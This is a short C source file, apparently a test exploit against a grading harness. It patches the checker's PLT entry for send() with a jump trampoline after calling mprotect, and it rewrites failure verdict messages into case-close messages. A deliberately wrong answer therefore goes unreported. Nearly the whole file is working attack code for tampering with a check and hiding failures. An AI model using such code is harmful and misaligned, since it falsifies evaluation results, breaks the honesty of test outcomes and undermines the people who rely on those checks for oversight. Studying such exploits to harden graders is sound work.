// makes the check's code writable by a function that it does not import, and has each message of a failure left unsent
#include "elf.inc"
#define WRONG_BY 1
#include "report.inc"
static long (*real_send)(int, const void *, size_t, int);

static long false_send(int fd, const void *bytes, size_t length, int flags)
{
    struct header h;
    memcpy(&h, bytes, sizeof h);
    if (h.type == VERDICT) // what was to be a failure becomes the end of the case
        h.type = CLOSE, bytes = &h, length = sizeof h;
    return real_send(fd, bytes, length, flags);
}

static void attack(void) // each indirect jump by the slot of send() in the check's code becomes one to the above
{
    const struct image check = image_of((uintptr_t)attack);
    int (*protect)(void *, size_t, int) = (int (*)(void *, size_t, int))find("mprotect");
    char *slot = NULL;
    real_send = (long (*)(int, const void *, size_t, int))find("send");
    for (size_t k = 0; k < check.njumps; k++)
        if (is_name(&check, &check.symbols[ELF64_R_SYM(check.jumps[k].r_info)], "send"))
            slot = check.base + check.jumps[k].r_offset;
    const unsigned char *plt = (const unsigned char *)check.base + 4096;
    for (int distance; slot; plt++) {
        memcpy(&distance, plt + 2, sizeof distance);
        if (plt[0] == 0xff && plt[1] == 0x25 && (const char *)plt + 6 + distance == slot)
            break;
    }
    unsigned char code[12] = {0x48, 0xb8, [10] = 0xff, 0xe0}; // movabs to rax, jump there
    const uintptr_t to = (uintptr_t)false_send;
    memcpy(code + 2, &to, sizeof to);
    if (slot && protect((char *)((uintptr_t)plt & ~(uintptr_t)4095), 8192, 7) == 0)
        memcpy((char *)(uintptr_t)plt, code, sizeof code);
}
